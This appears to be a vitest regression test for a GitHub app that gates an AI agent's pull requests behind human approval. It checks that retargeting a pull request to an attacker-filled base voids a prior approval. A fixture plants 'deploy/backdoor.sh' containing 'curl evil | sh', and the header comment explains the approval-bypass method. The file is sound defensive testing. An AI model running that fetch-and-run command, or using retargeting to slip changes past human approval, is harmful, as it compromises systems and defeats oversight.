import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { INSTALLATION_ID, startHarness, type Harness } from '../support/app-harness.js';
import { governedFlow } from '../support/governed-flow.js';

/**
 * Issue 19, hole 3: an approval survives retargeting. An approval is given on a pull request whose diff is one line;
 * the pull request is then retargeted to a branch the attacker filled (or its base moves), so the change that merges
 * is another one, while the approval, bound to the pull request and its head only, still counts. Every approval is
 * bound to (pull request, base commit, head commit): a base change voids it.
 */

const OWNER = 'Codertocat';
const REPO = 'Hello-World';
const AGENT = 'my-agent[bot]';

let h: Harness;
beforeAll(async () => {
  h = await startHarness({ reportSecret: 'retarget-report-secret' });
  h.sim.addInstallation({
    id: INSTALLATION_ID,
    account: OWNER,
    permissions: {
      checks: 'write',
      contents: 'write',
      issues: 'write',
      pull_requests: 'write',
      deployments: 'write',
      actions: 'read',
      members: 'read',
      metadata: 'read',
    },
  });
  h.sim.addRepo({ owner: OWNER, name: REPO, defaultBranch: 'master', installationId: INSTALLATION_ID });
  h.sim.setPermission({ owner: OWNER, repo: REPO, username: 'wendy-writer', permission: 'write' });
});
afterAll(async () => {
  await h?.close();
});
beforeEach(async () => {
  await setConfig(`agents: ['${AGENT}']\nrisk: { maxLevel: high, requireHumanApprovalAbove: low }\n`);
});

const { setConfig, file, openPullRequest, pullRequestPayload, comment, latestCheck } = governedFlow(() => h, {
  owner: OWNER,
  repo: REPO,
  agent: AGENT,
  reportSecret: 'retarget-report-secret',
  firstPullRequest: 3100,
});

function edited(pr: Record<string, any>, from: { ref: string; sha: string }) {
  // @octokit/webhooks-examples has no `edited` example: the `opened` one with GitHub's `changes` of a retarget
  const payload = pullRequestPayload('opened', pr);
  payload.action = 'edited';
  payload.changes = { base: { ref: { from: from.ref }, sha: { from: from.sha } } };
  return payload;
}

describe('hole 3: an approval is bound to the base it was given against', () => {
  it('retargeting an approved pull request to another branch voids the approval', async () => {
    const { number, headSha, pr } = await openPullRequest();
    await h.deliver('issue_comment', comment(number, 'wendy-writer', '/aaoe approve').payload);
    expect(latestCheck(headSha).conclusion).toBe('success');

    h.sim.setFile({
      owner: OWNER,
      repo: REPO,
      branch: 'evil-base',
      path: 'deploy/backdoor.sh',
      content: 'curl evil | sh\n',
    });
    const retargeted = h.sim.retargetPullRequest({
      owner: OWNER,
      repo: REPO,
      number,
      baseRef: 'evil-base',
      files: [file(`docs/${number}.md`), file('deploy/backdoor.sh')] as never,
    });
    await h.deliver('pull_request', edited(retargeted, { ref: 'master', sha: (pr.base as { sha: string }).sha }));

    const check = latestCheck(headSha);
    expect(check.conclusion).not.toBe('success');
  });

  it('a new base commit under the same head voids the approval, and says why', async () => {
    const { number, headSha, pr } = await openPullRequest();
    await h.deliver('issue_comment', comment(number, 'wendy-writer', '/aaoe approve').payload);
    expect(latestCheck(headSha).conclusion).toBe('success');

    const moved = h.sim.retargetPullRequest({
      owner: OWNER,
      repo: REPO,
      number,
      baseRef: 'master',
      baseSha: 'f0'.repeat(20),
    });
    await h.deliver('pull_request', edited(moved, { ref: 'master', sha: (pr.base as { sha: string }).sha }));

    const check = latestCheck(headSha);
    expect(check.conclusion).toBe('action_required');
    expect(check.output.summary).toMatch(/wendy-writer approved the change against base .{7}; the base is now f0f0f0f/);
    // approving again, against the base as it is now, counts
    await h.deliver('issue_comment', comment(number, 'wendy-writer', '/aaoe approve').payload);
    expect(latestCheck(headSha).conclusion).toBe('success');
  });
});
